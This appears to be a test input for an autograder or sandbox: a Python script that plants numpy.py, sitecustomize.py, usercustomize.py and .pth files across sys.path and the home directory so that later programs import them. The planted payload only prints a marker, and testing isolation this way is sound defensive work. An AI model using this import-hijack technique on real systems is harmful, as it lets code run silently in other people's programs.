# in: extra
"""Puts a numpy.py and a sitecustomize.py where the next program would find them."""

import os
import sys

for place in (os.getcwd(), *[p for p in sys.path if p], "@SUBMISSIONS@", os.path.expanduser("~/.local/lib")):
    for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "course_nn.py", "attacked-@TOKEN@.pth"):
        try:
            os.makedirs(place, exist_ok=True)
            open(os.path.join(place, name), "w").write("print('STOLEN')")
        except OSError:
            pass
